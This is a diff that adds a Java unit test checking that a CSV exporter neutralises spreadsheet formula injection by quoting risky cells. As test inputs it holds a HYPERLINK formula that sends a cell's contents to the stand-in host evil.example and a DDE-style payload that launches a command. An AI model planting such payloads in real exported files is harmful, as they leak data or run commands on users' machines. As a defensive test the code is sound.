@@ -46,4 +46,18 @@ class CsvEncodingTest {
         }
         assertThat(utf8.toByteArray()).startsWith(0xEF, 0xBB, 0xBF);
     }
+
+    @Test
+    void cellsThatASpreadsheetWouldRunAsAFormulaAreShownAsText() {
+        assertThat(CsvEncoding.UTF_8.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"))
+                .isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+        assertThat(CsvEncoding.SHIFT_JIS.cell("@SUM(1+1)*cmd|'/C calc'!A0")).isEqualTo("'@SUM(1+1)*cmd|'/C calc'!A0");
+        for (String risky : new String[] {"+81 90", "-2+3", "\tx", "\rx"}) {
+            assertThat(CsvEncoding.UTF_8.cell(risky)).as(risky).isEqualTo("'" + risky);
+        }
+        assertThat(CsvEncoding.UTF_8.cell("山田 花子")).isEqualTo("山田 花子");
+        assertThat(CsvEncoding.UTF_8.cell("a=b")).isEqualTo("a=b");
+        assertThat(CsvEncoding.UTF_8.cell(-500L)).isEqualTo(-500L);
+        assertThat(CsvEncoding.UTF_8.cell(null)).isNull();
+    }
 }
